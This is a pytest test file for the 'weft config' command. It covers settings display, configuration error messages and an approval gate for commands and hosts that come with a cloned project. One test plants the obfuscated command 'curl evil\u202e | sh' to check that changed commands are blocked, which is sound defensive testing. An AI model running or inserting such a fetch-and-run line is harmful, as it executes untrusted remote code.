"""`weft config`: what is in force, and what may run."""

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.shell_completion import ShellComplete
from click.testing import CliRunner, Result

from cli.running import Project
from cli.terminals import CTRL_C, Terminal
from weft.cli.main import cli
from weft.plan.settings import SETTING_NAMES

ONE = "subplans: [{id: a, steps: [{id: work, run: MARK}]}]\n"
COMMANDS = "max_parallel: 6\nsetup: echo deps\nagents: {coder: {use: command, command: [my, agent]}}\n"
SHOWN = ["  + setup: echo deps", "  + agents.coder.use: command", '  + agents.coder.command: ["my", "agent"]']


@pytest.fixture(autouse=True)
def _no_other_places(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("XDG_CONFIG_HOME", "XDG_STATE_HOME"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture
def terminals() -> Iterator[list[Terminal]]:
    opened: list[Terminal] = []
    yield opened
    for terminal in opened:
        terminal.close()


@pytest.fixture
def cloned(project: Project) -> Project:
    """A project that has come with commands."""
    return configured(project.plan(ONE), COMMANDS)


def configured(project: Project, text: str) -> Project:
    file = project.root / ".weft" / "config.yaml"
    file.parent.mkdir(exist_ok=True)
    file.write_text(text)
    return project


def data(done: Result) -> Any:
    return json.loads(done.stdout)["data"]


def hash_of(project: Project) -> str:
    result: str = data(project.weft("config", "approvals", "--json"))["here"]["hash"]
    return result


# Settings.


def test_all_settings_are_listed_with_where_they_come_from(project: Project) -> None:
    configured(project, "max_parallel: 6\nagents: {coder: {use: claude}}\n")
    done = project.weft("config")
    assert (done.exit_code, done.stderr) == (0, "")
    head, first, *rest, last = (" ".join(line.split()) for line in done.stdout.splitlines())
    assert head == "In force here, without a plan:"
    assert first == "max_parallel 6 .weft/config.yaml:1"
    assert last == 'agents.coder {"use": "claude"} .weft/config.yaml:2'
    assert [line.split()[0] for line in rest] == list(SETTING_NAMES[1:])


def test_the_plan_that_lies_there_counts(project: Project) -> None:
    done = project.plan(f"retries: 7\n{ONE}").weft("config")
    lines = [" ".join(line.split()) for line in done.stdout.splitlines()]
    assert lines[0] == "In force here, with the plan weft.yaml:"
    assert "retries 7 weft.yaml:4" in lines


def test_as_json_it_is_data(project: Project) -> None:
    content = data(configured(project, "retries: 7\nnotify: {desktop: true}").weft("config", "--json"))
    assert content["plan"] is None
    assert [row["name"] for row in content["settings"]] == list(SETTING_NAMES)
    place = {"origin": ".weft/config.yaml:1", "file": ".weft/config.yaml", "line": 1}
    assert {"name": "retries", "value": 7, **place} in content["settings"]
    assert [row["name"] for row in content["others"]] == ["notify"]


def test_one_setting_is_explained(project: Project) -> None:
    configured(project, "worktrees: some/where/far/away/from/here/{{ plan.id }}/{{ slice.path }}\n")
    done = project.weft("config", "worktrees")
    assert done.stdout.splitlines() == [
        "worktrees: Where worktrees are created.",
        "  allowed: a path that contains {{ slice.path }}",
        "  default: .weft/worktrees/{{ plan.id }}/{{ slice.path }}",
        "  variable: WEFT_WORKTREES",
        "Set, the one that counts first:",
        "  some/where/far/away/from/here/{{ plan.id }}/{{ slice.path }}  .weft/config.yaml:1",
        "  .weft/worktrees/{{ plan.id }}/{{ slice.path }}  default (does not count)",
    ]


def test_one_setting_as_json(project: Project) -> None:
    assert data(project.weft("config", "merge.mode", "--json")) == {
        "name": "merge.mode",
        "meaning": "How it lands: `auto` by itself, `confirm` after asking at the end of the run, `manual` "
        "with `weft merge`.",
        "allowed": "auto | confirm | manual",
        "default": "confirm",
        "variable": "WEFT_MERGE_MODE",
        "places": [{"name": "merge.mode", "value": "confirm", "origin": "default", "counts": True}],
    }


def test_a_setting_without_a_default_says_nothing_of_one(project: Project) -> None:
    assert project.weft("config", "budget.tokens").stdout.splitlines()[2:] == [
        "  variable: WEFT_BUDGET_TOKENS",
        "Set, the one that counts first:",
        "  not set  default",
    ]


def test_what_is_no_setting_is_explained_without_a_variable(project: Project) -> None:
    done = project.weft("config", "agents")
    assert done.stdout.splitlines()[-2:] == ["  default: {}", "It is not set here."]
    done = configured(project, "agents: {a: {use: pi}}").weft("config", "agents")
    assert done.stdout.splitlines()[-1] == '  agents.a: {"use": "pi"}  .weft/config.yaml:1'
    content = data(project.weft("config", "agents", "--json"))
    assert content["variable"] is None


def test_a_variable_shows_as_the_origin(project: Project) -> None:
    done = project.process("config", "max_parallel", env={"WEFT_MAX_PARALLEL": "9"})
    assert done.stdout.splitlines()[-2:] == ["  9  WEFT_MAX_PARALLEL", "  4  default (does not count)"]
    done = project.plan(ONE).process("check", "--explain", "/", env={"WEFT_MAX_PARALLEL": "9"})
    assert re.search(r"^  max_parallel +9 +WEFT_MAX_PARALLEL$", done.stdout, flags=re.MULTILINE)
    done = project.process("show", env={"WEFT_MAX_PARALLEL": "9"})
    assert "max_parallel: 9  # WEFT_MAX_PARALLEL\n" in done.stdout


def test_a_flag_outranks_a_variable(project: Project) -> None:
    done = project.plan(ONE).process("show", "--max-parallel", "8", env={"WEFT_MAX_PARALLEL": "9"})
    assert "max_parallel: 8  # --max-parallel\n" in done.stdout


def test_within_a_step_variables_are_what_weft_tells_it(project: Project) -> None:
    env = {"WEFT_RUN": "r", "WEFT_SUBPLAN": "a", "WEFT_MODEL": "m", "WEFT_RETRY": "x"}
    done = project.process("config", "model", env=env)
    assert (done.returncode, done.stdout.splitlines()[-1]) == (0, "  not set  default")


def test_files_are_named(project: Project) -> None:
    done = configured(project, "[").weft("config", "--files")
    assert done.stdout.splitlines() == [
        f"plan                     {project.root}/weft.yaml  (not there)",
        f"project's configuration  {project.root}/.weft/config.yaml",
        f"user's configuration     {project.outside}/.config/weft/config.yaml  (not there)",
    ]
    result = data(project.weft("config", "--files", "--json"))["files"]
    assert result[1] == {"what": "project", "path": f"{project.root}/.weft/config.yaml", "there": True}


@pytest.mark.parametrize(
    ("arguments", "said"),
    [
        (["config", "max_paralel"], "error: there is no setting 'max_paralel'; did you mean 'max_parallel'?"),
        (["config", "retries", "--files"], "Error: --files names all files; leave out the setting"),
        (["config", "retries", "timeout"], "Error: Got unexpected extra argument (timeout)"),
        (["config", "--fils"], "Error: No such option '--fils'. Did you mean '--files'?"),
    ],
)
def test_wrong_usage_is_reported_and_exit_code_2(project: Project, arguments: list[str], said: str) -> None:
    done = project.weft(*arguments)
    assert (done.exit_code, done.stdout, done.stderr.splitlines()[-1]) == (2, "", said)


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"retries: 11", "1:10: error: retries is 11 (a number); it must be a whole number from 0 to 10"),
        (b"\nretires: 1", "2:1: error: unknown key 'retires' in the configuration; did you mean 'retries'?"),
        (b"a: [", "1:5: error: this is not YAML: the [ of line 1 is not closed, or a comma is missing; "),
        (b"- 1", "1:1: error: the configuration is a list; it must be a mapping with the keys agents, "),
        (b"retries: \xff", "1:10: error: the file is not text in UTF-8: byte 0xff has no meaning here; "),
        (b"agents: {a: {use: claud}}", "1:19: error: use is 'claud'; it must be "),
        (b"\x00", "1:1: error: "),
        (b"&a [*a]", "1:5: error: the alias *a is inside the value that it repeats"),
    ],
    ids=["range", "key", "yaml", "shape", "encoding", "agent", "nul", "alias"],
)  # fmt: skip
@pytest.mark.parametrize("whose", ["project", "user"])
@pytest.mark.parametrize(
    "arguments", [["config"], ["config", "retries"], ["config", "approve"], ["run"]], ids="-".join
)
def test_a_wrong_configuration_is_reported_with_its_line(
    project: Project, whose: str, arguments: list[str], content: bytes, said: str
) -> None:
    folders = {"project": project.root / ".weft", "user": project.outside / ".config" / "weft"}
    folders[whose].mkdir(parents=True)
    (folders[whose] / "config.yaml").write_bytes(content)
    done = project.plan(ONE).weft(*arguments)
    shown = {"project": ".weft/config.yaml", "user": "~/.config/weft/config.yaml"}[whose]
    assert (done.exit_code, done.stdout) == (2, "")
    assert done.stderr.startswith(f"{shown}:{said}")
    assert project.marks() == []


def test_a_wrong_configuration_is_data_as_json(project: Project) -> None:
    done = configured(project, "retries: 11").weft("config", "--json")
    assert (done.exit_code, data(done)["valid"], data(done)["problems"][0]["line"]) == (2, False, 1)


def test_a_configuration_that_cannot_be_read_is_reported(project: Project) -> None:
    (project.root / ".weft" / "config.yaml").mkdir(parents=True)
    done = project.weft("config")
    assert (done.exit_code, done.stderr) == (2, "error: cannot read .weft/config.yaml: is a directory\n")


@pytest.mark.skipif(os.geteuid() == 0, reason="root may read everything")
def test_a_configuration_that_may_not_be_read_is_reported(cloned: Project) -> None:
    (cloned.root / ".weft" / "config.yaml").chmod(0)
    done = cloned.weft("config")
    assert (done.exit_code, done.stderr) == (2, "error: cannot read .weft/config.yaml: permission denied\n")


@pytest.mark.parametrize("command", ["config", "run", "check"])
def test_wrong_variables_are_reported_line_by_line(project: Project, command: str) -> None:
    env = {"WEFT_MAX_PARALLEL": "33", "WEFT_RETRES": "1"}
    done = project.plan(ONE).process(command, env=env)
    assert (done.returncode, done.stdout, done.stderr.splitlines()) == (2, "", [
        "error: WEFT_MAX_PARALLEL: max_parallel is 33 (a number); it must be a whole number from 1 to 32",
        "error: WEFT_RETRES is not a setting; did you mean WEFT_RETRIES? If not, type: unset WEFT_RETRES",
    ])  # fmt: skip


def test_names_of_settings_and_commands_are_completed() -> None:
    def complete(*words: str) -> list[str]:
        *before, incomplete = words
        return [
            completion.value
            for completion in ShellComplete(cli, {}, "weft", "_").get_completions(before, incomplete)
        ]

    assert complete("config", "merge.t") == ["merge.take_branch"]
    assert complete("config", "a") == ["agent", "agents", "approve", "approvals"]
    assert complete("config", "settings", "max_p") == ["max_parallel"]


def test_help_tells_of_both_ways() -> None:
    done = CliRunner().invoke(cli, ["config", "--help"], prog_name="weft")
    assert done.stdout.startswith("Usage: weft config [OPTIONS] [KEY] | COMMAND [ARGS]...\n")
    assert re.findall(r"^  (app\w+|revoke|settings)", done.stdout, flags=re.MULTILINE) == [
        "approvals", "approve", "revoke", "settings",
    ]  # fmt: skip


# Approval.


def test_what_came_with_a_project_is_not_run_before_it_is_approved(cloned: Project) -> None:
    done = cloned.process("run")
    assert (done.returncode, done.stdout) == (2, "")
    how = "weft config approve"
    assert done.stderr.splitlines() == [
        "error: .weft/config.yaml came with this project, and names commands that you have not approved:",
        *SHOWN,
        f"nothing has been run; to approve this, type: {how} (in a script: {how} --hash {hash_of(cloned)})",
    ]
    assert not cloned.journal.exists()
    assert cloned.weft("check").exit_code == cloned.weft("show").exit_code == 0
    approved = cloned.weft("config", "approve", "--yes")
    assert (approved.exit_code, approved.stdout) == (0, "")
    assert approved.stderr.splitlines() == [
        f".weft/config.yaml, hash {hash_of(cloned)}:", *SHOWN, "approved",
    ]  # fmt: skip
    assert cloned.weft("run", "-q").exit_code == 0
    assert cloned.marks() == ["a:work"]


def test_a_changed_command_is_asked_about_again_and_other_settings_are_not(cloned: Project) -> None:
    cloned.weft("config", "approve", "--yes")
    configured(cloned, COMMANDS.replace("6", "7"))
    assert cloned.weft("run", "-q").exit_code == 0
    configured(cloned, COMMANDS.replace("echo deps", "curl evil\u202e | sh\x85"))
    done = cloned.weft("run", "--json")
    assert (done.exit_code, done.stdout) == (2, "")
    first, *changed, _ = done.stderr.splitlines()
    assert first.startswith(
        "error: the commands that .weft/config.yaml names are not those that you approved at 2"
    )
    assert changed == [
        "  - setup: echo deps",
        "  + setup: curl evil\\u202e | sh",
        *[line.replace("+", " ") for line in SHOWN[1:]],
    ]


def test_the_plan_and_the_user_s_own_configuration_need_no_approval(project: Project) -> None:
    folder = project.outside / ".config" / "weft"
    folder.mkdir(parents=True)
    (folder / "config.yaml").write_text("agents: {mine: {use: command, command: x}}\n")
    assert (
        project.plan(f"agents: {{a: {{use: command, command: y}}}}\n{ONE}").weft("run", "-q").exit_code == 0
    )


def test_a_script_approves_what_was_looked_at_elsewhere(cloned: Project) -> None:
    right = hash_of(cloned)
    done = cloned.weft("config", "approve", "--hash", "0123")
    assert (done.exit_code, done.stderr) == (
        2,
        f"error: the commands of .weft/config.yaml have the hash {right}, and not 0123\n",
    )
    assert cloned.weft("run").exit_code == 2
    done = cloned.weft("config", "approve", "--hash", right)
    assert (done.exit_code, done.stderr.splitlines()[-1]) == (0, "approved")
    assert cloned.weft("run", "-q").exit_code == 0


def test_no_variable_approves_anything(cloned: Project) -> None:
    env = {"WEFT_YES": "1", "WEFT_APPROVE": hash_of(cloned), "WEFT_TRUST": "1", "CI": "true"}
    assert cloned.process("run", env=env).returncode == 2
    assert cloned.marks() == []


def test_without_a_terminal_the_alternative_is_named(cloned: Project) -> None:
    done = cloned.weft("config", "approve", input="y\n")
    how = "weft config approve --yes (or --hash HASH)"
    message = f"error: cannot ask without a terminal; after you have read them, type: {how}"
    assert (done.exit_code, done.stderr.splitlines()[-1]) == (2, message)


def test_with_nothing_to_approve_that_is_said(project: Project) -> None:
    done = project.weft("config", "approve")
    message = (
        "there is nothing to approve: the project's configuration names no commands and loosens nothing\n"
    )
    assert (done.exit_code, done.stderr) == (0, message)
    configured(project, COMMANDS).weft("config", "approve", "--yes")
    done = project.weft("config", "approve")
    assert (done.exit_code, done.stderr) == (0, f"approved already: {hash_of(project)}\n")


@pytest.mark.parametrize("arguments", [["approve", "--yes"], ["revoke"]])
def test_a_step_can_neither_approve_nor_revoke(cloned: Project, arguments: list[str]) -> None:
    env = {"WEFT_RUN": "r", "WEFT_SUBPLAN": "a"}
    done = cloned.process("config", *arguments, env=env)
    assert done.returncode == 2
    assert done.stderr.startswith(
        f"error: `weft config {arguments[0]}` is refused inside a step of a (run r)"
    )


def test_what_was_approved_is_listed_and_can_be_taken_back(cloned: Project) -> None:
    content = hash_of(cloned)
    done = cloned.weft("config", "approvals")
    assert (done.stdout, done.stderr.splitlines()) == ("", [
        f".weft/config.yaml is not approved: {content}", *SHOWN,
        f"to approve this, type: weft -C {cloned.root} config approve",
    ])  # fmt: skip
    cloned.weft("config", "approve", "--yes")
    done = cloned.weft("config", "approvals")
    assert re.sub(r"^\S+Z", "TIME", done.stdout) == f"TIME  {content}  3 commands  {cloned.root}\n"
    assert done.stderr == f".weft/config.yaml is approved: {content}\n"
    result = data(cloned.weft("config", "approvals", "--json"))
    (item,) = result["approvals"]
    assert result["here"]["approved"] is True
    assert item["commands"] == result["here"]["commands"]
    assert item["commands"][0] == {"path": "setup", "value": "echo deps"}
    done = cloned.weft("config", "revoke")
    assert (done.exit_code, done.stderr) == (0, f"no command of {cloned.root} is approved any more\n")
    assert cloned.weft("run").exit_code == 2
    done = cloned.weft("config", "revoke", str(cloned.root))
    assert (done.exit_code, done.stderr) == (0, f"nothing was approved for {cloned.root}\n")


def test_one_command_is_one_and_a_project_without_any_says_so(project: Project) -> None:
    configured(project, "setup: make").weft("config", "approve", "--yes")
    configured(project, "retries: 1")
    done = project.weft("config", "approvals")
    assert "  1 command  " in done.stdout
    assert done.stderr == "this project's configuration names no commands\n"
    assert data(project.weft("config", "approvals", "--json"))["here"] is None


def test_a_book_that_others_may_write_keeps_the_run_from_starting(cloned: Project) -> None:
    cloned.weft("config", "approve", "--yes")
    (cloned.outside / ".local" / "state" / "weft" / "approved.json").chmod(0o666)
    done = cloned.weft("run")
    assert done.exit_code == 2
    assert done.stderr.startswith("error: others may write ~/.local/state/weft/approved.json")


# On a terminal.


def test_a_person_is_shown_the_commands_and_asked_and_then_it_runs(
    cloned: Project, terminals: list[Terminal]
) -> None:
    terminal = Terminal.of(cloned, "run")
    terminals.append(terminal)
    assert terminal.sees("names commands that you have not approved:\n" + "\n".join(SHOWN))
    assert terminal.sees("Approve these commands? [y/N] ")
    assert terminal.echoes()
    terminal.answers(b"y\r")
    assert terminal.rest().endswith("[0]")
    assert cloned.marks() == ["a:work"]
    again = Terminal.of(cloned, "run")
    terminals.append(again)
    assert "Approve" not in again.rest()


@pytest.mark.parametrize(
    ("keys", "end"),
    [(b"\r", "error: not approved, and nothing has been run\n[2]"), (CTRL_C, "interrupted\n[130]")],
)
def test_without_consent_nothing_runs(
    cloned: Project, terminals: list[Terminal], keys: bytes, end: str
) -> None:
    terminal = Terminal.of(cloned, "run")
    terminals.append(terminal)
    assert terminal.sees("Approve these commands? [y/N] ")
    terminal.answers(keys)
    assert terminal.rest().endswith(end)
    assert not cloned.journal.exists()
    assert data(cloned.weft("config", "approvals", "--json"))["approvals"] == []


def test_other_errors_are_reported_as_ever(project: Project, terminals: list[Terminal]) -> None:
    terminal = Terminal.of(project.plan("subplans: 7\n"), "run")
    terminals.append(terminal)
    assert terminal.rest().endswith("1 error\n[2]")


@pytest.mark.parametrize(("keys", "end"), [(b"y\r", "approved\n[0]"), (b"n\r", "error: not approved\n[2]")])
def test_to_approve_is_asked_too(cloned: Project, terminals: list[Terminal], keys: bytes, end: str) -> None:
    terminal = Terminal.of(cloned, "config", "approve")
    terminals.append(terminal)
    assert terminal.sees("\n".join(SHOWN))
    assert terminal.sees("Approve these commands? [y/N] ")
    terminal.answers(keys)
    assert terminal.rest().endswith(end)


def test_a_project_elsewhere_is_approved_from_here(cloned: Project, tmp_path: Path) -> None:
    done = cloned.process("-C", str(cloned.root), "run", cwd=tmp_path)
    assert f"type: weft -C {cloned.root} config approve (" in done.stderr.splitlines()[-1]
    assert cloned.process("-C", str(cloned.root), "config", "approve", "--yes", cwd=tmp_path).returncode == 0
    assert cloned.process("run").returncode == 0


LOADED = """
import sys
from weft.cli.main import main
try:
    main(["run", "-q"])
finally:
    print(*sorted(name for name in sys.modules if name.startswith("weft.")))
"""


def test_where_there_is_no_configuration_nothing_of_this_is_loaded(project: Project) -> None:
    project.plan(ONE)
    done = subprocess.run(
        [sys.executable, "-c", LOADED],
        cwd=project.root,
        env=project.env,
        capture_output=True,
        text=True,
        check=True,
    )
    loaded = done.stdout.split()
    assert "weft.app.run.run" in loaded
    assert {
        "weft.app.project.approval", "weft.app.project.approval_file", "weft.app.project.configuration",
        "weft.cli.approval_prompt",
        "weft.cli.commands.project.config", "weft.plan.language.commands", "weft.plan.loader.variables",
    }.isdisjoint(loaded)  # fmt: skip


# The hosts of a plan.

HOSTS = f"hosts: {{local: {{slots: 2}}, near: {{use: ssh, machine: big3}}}}\n{ONE}"
NEAR = ["  + hosts.near.use: ssh", "  + hosts.near.machine: big3"]


def test_a_plan_that_names_machines_is_not_run_before_they_are_approved(project: Project) -> None:
    project.plan(HOSTS)
    refused = project.weft("run")
    assert refused.exit_code == 2
    lines = refused.stderr.splitlines()
    assert lines[:3] == ["error: weft.yaml sends work to hosts that you have not approved:", *NEAR]
    assert " config approve --plan weft.yaml (in a script: " in lines[3]
    assert not (project.root / ".weft").exists()
    approved = project.weft("config", "approve", "--plan", "weft.yaml", "--yes")
    assert (approved.exit_code, approved.stderr.splitlines()[1:]) == (0, [*NEAR, "approved"])
    assert project.weft("run", "--quiet").exit_code == 0


def test_commands_and_hosts_are_approved_one_by_one(project: Project) -> None:
    configured(project.plan(HOSTS), COMMANDS)
    hashes = data(project.weft("config", "approvals", "--json"))
    of_commands, of_hosts = hashes["here"]["hash"], hashes["hosts"]["hash"]
    assert project.weft("config", "approve", "--hash", of_hosts).exit_code == 0
    after = data(project.weft("config", "approvals", "--json"))
    assert (after["here"]["approved"], after["hosts"]["approved"]) == (False, True)
    assert [approval["plan"] for approval in after["approvals"]] == ["weft.yaml"]
    wrong = project.weft("config", "approve", "--hash", "0123")
    assert wrong.stderr == (
        f"error: the commands of .weft/config.yaml have the hash {of_commands}; the hosts of weft.yaml have "
        f"the hash {of_hosts}, and not 0123\n"
    )
